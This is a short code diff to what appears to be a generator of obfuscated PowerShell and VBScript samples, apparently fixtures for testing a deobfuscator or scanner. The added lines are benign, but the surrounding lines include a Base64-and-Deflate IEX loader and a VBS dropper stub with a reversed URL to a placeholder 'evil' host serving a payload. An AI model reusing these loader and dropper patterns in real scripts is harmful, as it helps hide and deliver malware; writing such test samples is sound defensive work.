@@ -20,6 +20,7 @@ export function powershellLayered(): string {
     `$s = ('HELLOxWORLD' -replace 'x','_').Replace('_', ' ');`,
     `.($PSHome[4]+$PSHome[30]+'x') ('Write-Host ' + "'hi'");`,
     `&($env:ComSpec[4,15,25]-Join'') 'Get-Date';`,
+    `$p = 'Write-Output ''from a variable'''; iex $p;`,
     `I\`E\`X (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${b64}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
   ].join('\n');
 }
@@ -48,6 +49,8 @@ export function vbsDropper(): string {
     'u = StrReverse("nib.daolyap/moc.elpmaxe.live//:ptth")',
     'p = Replace("pXowXershell", "X", "")',
     `Execute ${chrs}`,
+    'c = "MsgBox ""from a variable"""',
+    'Execute c',
   ].join('\r\n');
 }
 
